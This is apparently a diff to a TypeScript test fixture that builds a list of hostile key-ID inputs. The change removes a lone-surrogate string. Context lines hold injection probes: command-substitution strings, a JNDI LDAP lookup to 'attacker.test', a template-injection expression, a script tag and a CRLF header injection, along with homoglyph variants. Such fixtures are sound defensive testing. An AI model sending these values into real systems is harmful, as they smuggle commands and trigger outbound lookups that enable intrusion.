@@ -24,7 +24,7 @@ const kids: readonly string[] = [
   ],
   ['|id', '$(id)', '`id`', '${jndi:ldap://attacker.test/a}', '{{7*7}}', '<script>', '\r\nX-Injected: 1'],
   ['key-hostile ', ' key-hostile', 'KEY-HOSTILE', 'key-hostile\0', 'key-hostile/', 'k\u0435y-hostile'],
-  ['key\u2010hostile', 'key-hostil\u0435', 'key%2Dhostile', 'key-hostile,key-1', '\u{1f511}', '\ud800'],
+  ['key\u2010hostile', 'key-hostil\u0435', 'key%2Dhostile', 'key-hostile,key-1', '\u{1f511}'],
 ].flat();
 
 const addresses: readonly unknown[] = [
